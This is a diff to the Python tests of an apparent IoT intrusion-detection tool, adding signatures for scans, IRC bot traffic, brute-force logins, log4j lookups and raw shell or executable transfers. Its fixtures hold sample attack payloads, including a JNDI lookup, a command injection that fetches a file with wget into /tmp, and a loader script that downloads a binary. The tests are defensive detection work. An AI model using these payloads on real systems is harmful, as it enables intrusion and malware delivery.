@@ -23,12 +23,13 @@ from iotscan.request_pass import (
     match_packet,
     match_query,
     match_request,
+    named_hosts,
     read_requests,
     request_pass,
     signature,
 )
 from iotscan.source import MeterConfig
-from tests.conftest import NDPI_PCAPS, REPO, SAMPLES, dns_query_message, ndjson, require_shared, run_iotscan
+from tests.conftest import DATASETS, NDPI_PCAPS, REPO, SAMPLES, dns_query_message, ndjson, require_shared, run_iotscan
 
 
 def names(request: bytes) -> str | None:
@@ -68,6 +69,9 @@ def names(request: bytes) -> str | None:
      "exploit tool user agent"),
     (b"GET /item?id=1 HTTP/1.1\r\nUser-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)\r\n\r\n",
      "exploit tool user agent"),
+    # THC Hydra's http-get module guessing a camera's password
+    (b"GET / HTTP/1.1\r\nHost: 192.168.28.27\r\nUser-Agent: Mozilla/4.0 (Hydra)\r\n"
+     b"Authorization: Basic cm9vdDp4Yw==\r\n\r\n", "password guessing tool user agent"),
 ])
 def test_requests_match_their_signature(request_bytes: bytes, expected: str) -> None:
     assert names(request_bytes) == expected
@@ -100,11 +104,22 @@ def test_signature_codes_are_stable_positions() -> None:
                                                 "script injection", "JNDI lookup (log4j)", "secrets probe"]
     assert [s.name for s in SIGNATURES[6:9]] == ["DNS tunnel (NULL records)", "DNS tunnel (encoded names)",
                                                  "NULL/FIN/XMAS probe"]
-    assert [s.name for s in SIGNATURES[9:]] == ["nmap service probe", "scanner user agent",
-                                                "command injection (request body)", "exploit tool user agent"]
+    assert [s.name for s in SIGNATURES[9:13]] == ["nmap service probe", "scanner user agent",
+                                                  "command injection (request body)", "exploit tool user agent"]
+    assert [s.name for s in SIGNATURES[13:]] == ["scanner SYN (window 1024, no DF)",
+                                                 "ping without data (nmap host discovery)",
+                                                 "IRC bot nick naming its CPU", "MQTT login refused", "SSH connection",
+                                                 "password guessing tool user agent", "telnet login refused",
+                                                 "shell script sent over TCP (a loader or a reverse shell)",
+                                                 "Windows executable sent over TCP (a payload stage)"]
     assert signature(0) is None and signature(len(SIGNATURES) + 1) is None
-    family = {"target": "exploit", "head": "exploit", "body": "exploit", "dns": "c2", "tcp-flags": "scan"}
-    assert all(s.family == family[s.where] for s in SIGNATURES[:9] + SIGNATURES[11:])
+    family = {"target": "exploit", "head": "exploit", "body": "exploit", "dns": "c2", "tcp-flags": "scan",
+              "syn": "scan", "echo": "scan", "line": "c2", "ssh": "bruteforce", "reply": "bruteforce"}
+    assert [s.family for s in SIGNATURES[20:]] == ["exploit", "c2"]
+    assert all(s.family == family[s.where] for s in SIGNATURES[:9] + SIGNATURES[11:18] + SIGNATURES[19:20])
+    assert SIGNATURES[18].family == "bruteforce" and SIGNATURES[18].reason == \
+        "HTTP request matched a password guesser signature: password guessing tool user agent"
+    assert SIGNATURES[16].reason == "MQTT login refused, 5 or more between the same two hosts within 10 minutes"
     assert all(s.family == "scan" and s.reason.startswith("HTTP request matched a scanner signature")
                for s in SIGNATURES[9:11])
 
@@ -144,6 +159,34 @@ def test_a_match_marks_the_two_hosts_flows_around_it_in_either_direction() -> No
     assert pair("10.0.0.1", "10.0.0.2", 40_000, 200_000) == 11 and pair("10.0.0.1", "10.0.0.2", 171_000, 171_000) == 1
 
 
+def test_an_exploit_marks_its_victims_flows_to_the_hosts_its_request_names() -> None:
+    # a log4j lookup and a command injection name the host the victim is to call: an LDAP server, a loader
+    request = b"GET / HTTP/1.1\r\nHost: 172.16.238.10:8080\r\nX-Api-Version: ${jndi:ldap://172.16.238.11:1389/a}\r\n\r\n"
+    assert named_hosts(request) == ("172.16.238.10", "172.16.238.11")
+    assert named_hosts(b"GET /ping.cgi?h=1;wget%20http://10.0.0.99/m%20-O%20/tmp/m HTTP/1.1\r\n\r\n") == ("10.0.0.99",)
+    assert named_hosts(b"GET /a?v=1.2.3.4.5&w=300.1.1.1&x=v1.2.3.4 HTTP/1.1\r\n\r\n") == ()  # no addresses
+    assert len(named_hosts(b"GET /?" + b"&".join(b"h=10.0.0.%d" % i for i in range(9)) + b" HTTP/1.1\r\n\r\n")) == 4
+    jndi = next(code for code, s in enumerate(SIGNATURES, start=1) if s.name == "JNDI lookup (log4j)")
+    assert signature(jndi).names_hosts and not signature(9).names_hosts  # a probe names no host
+    f = RequestFindings()
+    f.add("172.16.238.1", 1984, "172.16.238.10", 8080, 100_000, jndi, named_hosts(request))
+    named = f.named_code
+    assert named("172.16.238.10", "172.16.238.11", 100_275, 118_000) == jndi  # the victim's LDAP lookup
+    assert named("172.16.238.11", "172.16.238.10", 119_000, 119_100) == jndi  # either direction
+    assert named("172.16.238.1", "172.16.238.11", 100_275, 118_000) == 0  # the attacker's own flows: the pair's
+    assert named("172.16.238.10", "172.16.238.10", 100_275, 118_000) == 0 and len(f.by_named) == 1  # not itself
+    assert named("172.16.238.10", "172.16.238.11", 100_000 + PAIR_AFTER_MATCH_MS + 1, 10**9) == 0
+    assert f.pair_code("172.16.238.10", "172.16.238.11", 100_275, 118_000) == 0  # no pair of its own
+
+
+def test_named_hosts_stay_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr("iotscan.request_pass.MAX_FINDINGS", 3)
+    f = RequestFindings()
+    for host in range(6):
+        f.add("10.0.0.2", 40000 + host, "10.0.0.1", 80, 1_000, 2, (f"10.0.9.{host}",))
+    assert f.named_kept == 3 and len(f.by_named) == 3
+
+
 def test_a_dns_match_marks_no_pair() -> None:
     # a tunnel's two hosts are the client and its resolver, which carries every name the client looks up
     f = RequestFindings()
@@ -161,6 +204,46 @@ def test_marked_pairs_stay_bounded_forgetting_the_oldest(monkeypatch: pytest.Mon
         f.add("10.0.0.2", 40000, f"10.0.1.{host}", 80, 1_000, 1)
     assert f.pair_kept == 3 and len(f.by_pair) == 3
     assert f.pair_code("10.0.0.2", "10.0.1.1", 0, 2_000) == 0 and f.pair_code("10.0.0.2", "10.0.1.5", 0, 2_000) == 1
+
+
+def _refusals(f: RequestFindings, times_s: list[int], code: int, first_port: int = 40000) -> None:
+    """Refused logins from 10.0.0.9 at 10.0.0.1's broker, one connection each, at these seconds."""
+    for i, t in enumerate(times_s):
+        f.add("10.0.0.1", 1883, "10.0.0.9", first_port + i, t * 1000, code)  # the refusal comes from the server
+
+
+def test_refused_logins_count_from_the_fifth_within_ten_minutes() -> None:
+    refused = next(code for code, s in enumerate(SIGNATURES, start=1) if s.name == "MQTT login refused")
+    sig = signature(refused)
+    assert (sig.min_pair_count, sig.pair_window_ms) == (5, 600_000)  # fail2ban's maxretry and findtime
+    f = RequestFindings()
+    _refusals(f, [0, 100, 200, 300], refused)  # four: typos, or a device with a stale password
+    assert f.kept == 0 and f.held_kept == 4 and not f.by_pair
+    assert f.code("10.0.0.9", 40000, "10.0.0.1", 1883, 0, 1_000) == 0
+    _refusals(f, [400], refused, first_port=40004)  # the fifth within ten minutes: all five count
+    assert f.kept == 5 and f.held_kept == 0
+    assert all(f.code("10.0.0.9", port, "10.0.0.1", 1883, 0, 500_000) == refused for port in range(40000, 40005))
+    assert f.pair_code("10.0.0.9", "10.0.0.1", 0, 1_000) == refused  # and mark the two hosts' flows
+    _refusals(f, [950], refused, first_port=40005)  # within ten minutes of the last that counted: at once
+    assert f.kept == 6
+    _refusals(f, [3000], refused, first_port=40006)  # long after: held back again
+    assert f.kept == 6 and f.held_kept == 1
+    spread = RequestFindings()
+    _refusals(spread, [0, 200, 400, 600, 800, 1000], refused)  # never five within ten minutes
+    assert spread.kept == 0 and spread.held_kept == 4
+    other = RequestFindings()  # five refusals, each from another client: no guessing between two hosts
+    for host in range(5):
+        other.add("10.0.0.1", 1883, f"10.0.0.{20 + host}", 40000, host * 1000, refused)
+    assert other.kept == 0
+
+
+def test_held_refusals_stay_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr("iotscan.request_pass.MAX_FINDINGS", 3)
+    refused = next(code for code, s in enumerate(SIGNATURES, start=1) if s.name == "telnet login refused")
+    f = RequestFindings()
+    for host in range(10):
+        f.add("10.0.0.1", 23, f"10.0.1.{host}", 40000, 1_000, refused)
+    assert f.held_kept <= 3 and len(f.held) <= 3
 
 
 def test_fuzzed_requests_never_raise() -> None:
@@ -225,10 +308,12 @@ def test_request_pass_reads_the_shared_exploits_and_no_benign_request() -> None:
     require_shared()
     # WebattackRCE is a Nikto run: its user agent gives away 673 of its 797 flows, its payloads 62 more
     for name, expected in [("WebattackSQLinj.pcap", 7), ("WebattackRCE.pcap", 735), ("xss.pcap", 1),
-                           ("sql_injection.pcap", 1), ("dotenv.pcap", 1), ("log4j-webapp-exploit.pcap", 1)]:
+                           ("sql_injection.pcap", 1), ("dotenv.pcap", 1), ("log4j-webapp-exploit.pcap", 1),
+                           ("shell.pcap", 2), ("portable_executable.pcap", 2)]:
         path = str(NDPI_PCAPS / name)
         assert read_requests(path, MeterConfig(source=path)).matched == expected, name
-    # every capture of the corpus the training manifest calls benign: no request matches
+    # every capture of the corpus the training manifest calls benign: no match counts (ssh.pcap's two SSH
+    # connections are held back: five between two hosts within two minutes would count)
     benign = []
     with (REPO / "training" / "ndpi-corpus.csv").open() as f:
         for row in csv.DictReader(line for line in f if not line.startswith("#")):
@@ -239,9 +324,43 @@ def test_request_pass_reads_the_shared_exploits_and_no_benign_request() -> None:
         job, _ = request_pass(str(path), MeterConfig(source=str(path)))
         found = job.outcome()
         requests += job.report.flows  # request flows read (only matches leave the pass's meter)
-        assert found.matched == 0, (path.name, found.by_endpoints)
+        assert found.kept == 0 and not found.by_pair, (path.name, found.by_endpoints)
     # the corpus's benign captures do carry requests: 289 HTTP request flows and 326 DNS query flows
     assert requests > 550
+
+
+def test_shared_irc_bot_and_files_sent_raw_are_attacks() -> None:
+    require_shared()
+    # IoT-23's Capture-34-1: a bot that registers "[ARM4T|...]" on its IRC server again and again
+    path = DATASETS / "iot-23" / "CTU-IoT-Malware-Capture-34-1" / "2018-12-21-15-50-14-192.168.1.195.irc.pcap"
+    proc = run_iotscan("analyze", path, "-f", "ndjson", "--no-devices", check_code=0)
+    flows = [r for r in ndjson(proc.stdout) if r["event_type"] == "flow"]
+    assert len(flows) > 4000
+    c2 = [r for r in flows if r["verdict"] == "attack" and r["family"] == "c2"]
+    assert len(c2) >= 0.95 * len(flows)
+    own = [r for r in c2 if r["reasons"][0] == "a bot's command to its controller: IRC bot nick naming its CPU"]
+    assert len(own) > 1500  # the others are the same two hosts' flows around them
+    # the corpus's reverse shell (scripts sent to a listener) and Meterpreter stage (an executable on 4444)
+    for name, family in [("shell.pcap", "exploit"), ("portable_executable.pcap", "c2")]:
+        proc = run_iotscan("analyze", NDPI_PCAPS / name, "-f", "ndjson", "--no-devices", check_code=0)
+        flows = [r for r in ndjson(proc.stdout) if r["event_type"] == "flow"]
+        assert flows and all((r["verdict"], r["family"]) == ("attack", family) for r in flows), name
+
+
+
+def test_shared_log4j_victims_callbacks_to_the_named_host_are_exploits() -> None:
+    require_shared()
+    # the JNDI request names 172.16.238.11, whose LDAP answer and exploit class the victim fetches; the
+    # reverse shell it then opens goes to a host no request names
+    proc = run_iotscan("analyze", NDPI_PCAPS / "log4j-webapp-exploit.pcap", "-f", "ndjson", "--no-devices",
+                       check_code=0)
+    flows = [r for r in ndjson(proc.stdout) if r["event_type"] == "flow"]
+    callbacks = [r for r in flows if {r["src_ip"], r["dst_ip"]} == {"172.16.238.10", "172.16.238.11"}]
+    assert len(callbacks) == 4 and {r["dst_port"] for r in callbacks} == {1389, 80}
+    for r in callbacks:
+        assert (r["verdict"], r["family"], r["score"]) == ("attack", "exploit", 1.0)
+        assert r["reasons"][0] == "the other host was named in an exploit request this host received within " \
+                                  "minutes: JNDI lookup (log4j)"
 
 
 def test_request_pass_never_raises_on_the_corpus() -> None:
@@ -393,11 +512,21 @@ def _tcp(sport: int, dport: int, flags: int, payload: bytes = b"") -> bytes:
     return struct.pack("!HHIIBBHHH", sport, dport, 1, 1, 0x50, flags, 65535, 0, 0) + payload
 
 
+def _syn(window: int, dont_fragment: bool, sport: int = 40000) -> bytes:
+    tcp = struct.pack("!HHIIBBHHH", sport, 23, 7, 0, 0x50, 0x02, window, 0, 0)
+    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0x4000 if dont_fragment else 0, 64, 6, 0,
+                       bytes([10, 0, 0, 3]), bytes([10, 0, 0, 1])) + tcp
+
+
+def _echo(data: bytes, icmp_type: int = 8) -> bytes:
+    return _ip4(1, 3, 1, struct.pack("!BBHHH", icmp_type, 0, 0, 4242, 1) + data)
+
+
 @pytest.mark.parametrize("vlan", [None, 7])
 def test_the_whole_filter_lets_each_kind_through(tmp_path: Path, vlan: int | None) -> None:
-    # One filter joins three: libpcap's optimizer once dropped the probes behind the HTTP expression
+    # One filter joins several: libpcap's optimizer once dropped the probes behind the HTTP expression
     # (its payload offset depends on the packet), so each kind is checked through the whole filter,
-    # untagged and VLAN-tagged.
+    # untagged and VLAN-tagged, beside packets it must drop.
     request = b"GET /a/../../etc/passwd HTTP/1.1\r\nHost: cam\r\n\r\n"
     frames = [_ether(_ip4(6, 2, 1, _tcp(40000, 80, 0x18, request)), 0x0800, vlan)]
     frames += [_ether(_ip4(6, 3, 1, _tcp(50000 + i, 1000 + i, flags)), 0x0800, vlan)  # NULL, FIN, XMAS
@@ -405,6 +534,17 @@ def test_the_whole_filter_lets_each_kind_through(tmp_path: Path, vlan: int | Non
     frames += [_ether(_ip4(17, 4, 1, struct.pack("!HHHH", 53000, 53, 0, 0) + dns_query_message(
         f"{i:02x}{'0123456789abcdef' * 2}.t.example.org", 16)), 0x0800, vlan) for i in range(3)]
     frames.append(_ether(_ip4(6, 3, 1, _tcp(50009, 1009, 0x10)), 0x0800, vlan))  # a bare ACK: no probe
+    frames += [_ether(_syn(1024, False), 0x0800, vlan), _ether(_syn(1024, True, sport=40001), 0x0800, vlan)]
+    frames += [_ether(_ip4(1, 5, 1, struct.pack("!BBHHH", 8, 0, 0, 1, 1)), 0x0800, vlan),  # a ping without data
+               _ether(_ip4(1, 6, 1, struct.pack("!BBHHH", 8, 0, 0, 1, 1) + bytes(56)), 0x0800, vlan)]
+    frames.append(_ether(_ip4(6, 7, 1, _tcp(40000, 6667, 0x18, b"NICK X86|b9d80f\r\n")), 0x0800, vlan))
+    frames += [_ether(_ip4(6, 1, 8, _tcp(1883, 41000 + i, 0x18, b"\x20\x02\x00\x05")), 0x0800, vlan)
+               for i in range(5)]  # five refused logins: guessing
+    frames += [_ether(_ip4(6, 1, 9, _tcp(23, 42000 + i, 0x18, b"Login incorrect\r\n")), 0x0800, vlan)
+               for i in range(5)]
+    frames += [_ether(_ip4(6, 10, 1, _tcp(43000 + i, 22, 0x18, b"SSH-2.0-libssh_0.10.6\r\n")), 0x0800, vlan)
+               for i in range(5)]
+    frames.append(_ether(_ip4(6, 11, 1, _tcp(44000, 33333, 0x18, b"#!/bin/sh\nid\n")), 0x0800, vlan))
     capture = tmp_path / "each-kind.pcap"
     _write_pcap(capture, frames)
     found = read_requests(str(capture), MeterConfig(source=str(capture)))
@@ -413,7 +553,15 @@ def test_the_whole_filter_lets_each_kind_through(tmp_path: Path, vlan: int | Non
                      ("10.0.0.3", 50000, "10.0.0.1", 1000): "NULL/FIN/XMAS probe",
                      ("10.0.0.3", 50001, "10.0.0.1", 1001): "NULL/FIN/XMAS probe",
                      ("10.0.0.3", 50002, "10.0.0.1", 1002): "NULL/FIN/XMAS probe",
-                     ("10.0.0.4", 53000, "10.0.0.1", 53): "DNS tunnel (encoded names)"}
+                     ("10.0.0.4", 53000, "10.0.0.1", 53): "DNS tunnel (encoded names)",
+                     ("10.0.0.3", 40000, "10.0.0.1", 23): "scanner SYN (window 1024, no DF)",
+                     ("10.0.0.5", 0, "10.0.0.1", 0): "ping without data (nmap host discovery)",
+                     ("10.0.0.7", 40000, "10.0.0.1", 6667): "IRC bot nick naming its CPU",
+                     **{("10.0.0.1", 1883, "10.0.0.8", 41000 + i): "MQTT login refused" for i in range(5)},
+                     **{("10.0.0.1", 23, "10.0.0.9", 42000 + i): "telnet login refused" for i in range(5)},
+                     **{("10.0.0.10", 43000 + i, "10.0.0.1", 22): "SSH connection" for i in range(5)},
+                     ("10.0.0.11", 44000, "10.0.0.1", 33333):
+                         "shell script sent over TCP (a loader or a reverse shell)"}
 
 
 @pytest.mark.parametrize(("flags", "expected"), [
@@ -426,14 +574,61 @@ def test_tcp_flag_signature(flags: int, expected: str | None) -> None:
     assert flag_text(0x29) == "fpu" and flag_text(0) == ""
 
 
+def _name(ip_packet: bytes) -> str | None:
+    sig = signature(match_packet(ip_packet))
+    return None if sig is None else sig.name
+
+
+@pytest.mark.parametrize(("ip_packet", "expected"), [
+    # nmap's and masscan's raw SYNs (Suricata: ET SCAN NMAP -sS window 1024); an OS's connect() sets DF
+    (_syn(1024, False), "scanner SYN (window 1024, no DF)"),
+    (_syn(1024, True), None), (_syn(64240, False), None), (_syn(64240, True), None),
+    # nmap -sn's ping carries no data (Snort: ICMP PING NMAP); ping(8) sends 56 bytes, Windows 32
+    (_echo(b""), "ping without data (nmap host discovery)"),
+    (_echo(bytes(56)), None), (_echo(b"abcdefghijklmnopqrstuvwabcdefghi"), None), (_echo(b"", icmp_type=0), None),
+    # IoT bots name their CPU in their IRC nick (IoT-23's Capture-34-1, Kaiten/Tsunami); people do not
+    (_ip4(6, 2, 1, _tcp(40000, 6667, 0x18, b"NICK [ARM4T|HVLLTLBT]\r\nUSER TALMK localhost localhost :TALMK\r\n")),
+     "IRC bot nick naming its CPU"),
+    (_ip4(6, 2, 1, _tcp(40000, 7000, 0x18, b"NICK X86|b9d80f\r\nUSER b9d80f 0 * :x86\r\n")),
+     "IRC bot nick naming its CPU"),
+    (_ip4(6, 2, 1, _tcp(40000, 6667, 0x18, b"USER x 0 * :X\r\nNICK mips|4f2a\r\n")), "IRC bot nick naming its CPU"),
+    (_ip4(6, 2, 1, _tcp(40000, 8000, 0x18, b"NICK molochtest\r\n")), None),
+    (_ip4(6, 2, 1, _tcp(40000, 8000, 0x18, b"USER xxxxx +iw xxxxx :Xxxxxx Xxxx\r\n")), None),
+    (_ip4(6, 2, 1, _tcp(40000, 21, 0x18, b"USER anonymous\r\n")), None),  # FTP's USER
+    # a broker refusing credentials (CONNACK return code 4 or 5), a telnet server refusing a login
+    (_ip4(6, 1, 2, _tcp(1883, 40000, 0x18, b"\x20\x02\x00\x05")), "MQTT login refused"),
+    (_ip4(6, 1, 2, _tcp(1883, 40000, 0x18, b"\x20\x02\x00\x04")), "MQTT login refused"),
+    (_ip4(6, 1, 2, _tcp(1883, 40000, 0x18, b"\x20\x02\x00\x00")), None),  # accepted
+    (_ip4(6, 1, 2, _tcp(23, 40000, 0x18, b"Login incorrect\r\r\n")), "telnet login refused"),
+    (_ip4(6, 1, 2, _tcp(23, 40000, 0x18, b"\r\nLogin incorrect\r\n\r\ncam login: ")), "telnet login refused"),
+    (_ip4(6, 1, 2, _tcp(23, 40000, 0x18, b"\r\r\nnetcam login: ")), None),
+    # every SSH connection starts with an identification line: the pass counts them between two hosts
+    (_ip4(6, 2, 1, _tcp(40000, 22, 0x18, b"SSH-2.0-libssh_0.10.6\r\n")), "SSH connection"),
+    (_ip4(6, 1, 2, _tcp(22, 40000, 0x18, b"SSH-2.0-dropbear_2022.83\r\n\x00\x00\x01\xfc")), "SSH connection"),
+    # files sent raw over a connection: a loader's or reverse shell's script, a stager's executable
+    (_ip4(6, 2, 1, _tcp(40000, 33333, 0x18, b"#!/bin/sh\ncd /tmp; wget http://10.0.0.9/x.arm7\n")),
+     "shell script sent over TCP (a loader or a reverse shell)"),
+    (_ip4(6, 2, 1, _tcp(40000, 33333, 0x18, b"#! /usr/bin/env bash\nid\n")),
+     "shell script sent over TCP (a loader or a reverse shell)"),
+    (_ip4(6, 1, 2, _tcp(4444, 40000, 0x18, b"MZ\x90\x00" + bytes(60) + b"\x0e\x1f\xba\x0e\x00\xb4\t\xcd!"
+                                         b"This program cannot be run in DOS mode.\r\r\n$")),
+     "Windows executable sent over TCP (a payload stage)"),
+    (_ip4(6, 2, 1, _tcp(40000, 33333, 0x18, b"#!python\nprint(1)\n")), None),
+    (_ip4(6, 1, 2, _tcp(4444, 40000, 0x18, b"MZ" + bytes(200))), None),  # no DOS stub: no executable
+])
+def test_probe_command_and_reply_signatures(ip_packet: bytes, expected: str | None) -> None:
+    assert _name(ip_packet) == expected
+
+
 def test_shared_tcp_scan_probes_are_read() -> None:
     require_shared()
     path = str(NDPI_PCAPS / "tcp_scan.pcapng")
     found = read_requests(path, MeterConfig(source=path))
-    # the capture's NULL, FIN and XMAS probes; its four refused connects are ordinary SYNs
-    assert found.matched == 3
-    assert {signature(code).name for matches in found.by_endpoints.values() for _, code in matches} == \
-        {"NULL/FIN/XMAS probe"}
+    # the capture's NULL, FIN and XMAS probes, and nmap's raw SYN to 3389 (window 1024); its three other
+    # connects are an OS's ordinary SYNs
+    assert found.matched == 4
+    assert sorted(signature(code).name for matches in found.by_endpoints.values() for _, code in matches) == \
+        ["NULL/FIN/XMAS probe"] * 3 + ["scanner SYN (window 1024, no DF)"]
     # ... which come from the same scanner to the same host: analyze names all seven scan flows
     proc = run_iotscan("analyze", path, "-f", "ndjson", "--no-devices", check_code=0)
     flows = [r for r in ndjson(proc.stdout) if r["event_type"] == "flow"]
